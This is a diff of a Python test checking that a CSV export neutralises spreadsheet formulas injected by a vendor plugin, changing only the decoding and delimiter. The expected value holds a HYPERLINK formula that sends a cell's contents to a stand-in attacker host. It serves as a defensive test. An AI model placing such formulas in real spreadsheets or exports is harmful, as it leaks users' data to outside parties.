@@ -100,7 +100,7 @@ def test_spreadsheet_formulas_from_a_vendor_are_neutralised_in_csv(run_export):
 
     pkg = run_export(DEMO, [], {"evil": {}}, plugins=[_plugin(Formula)], only=["evil"])
     name = next(n for n in pkg.zip.namelist() if n.endswith("/lightspeed.csv"))
-    rows = list(csv.reader(io.StringIO(pkg.zip.read(name).decode("utf-8"))))
+    rows = list(csv.reader(io.StringIO(pkg.zip.read(name).decode("utf-8-sig")), delimiter=";"))
     cells = [c for row in rows[1:] for c in row]
     assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")" in cells
     assert not any(c.startswith(("=", "+", "@")) for c in cells)
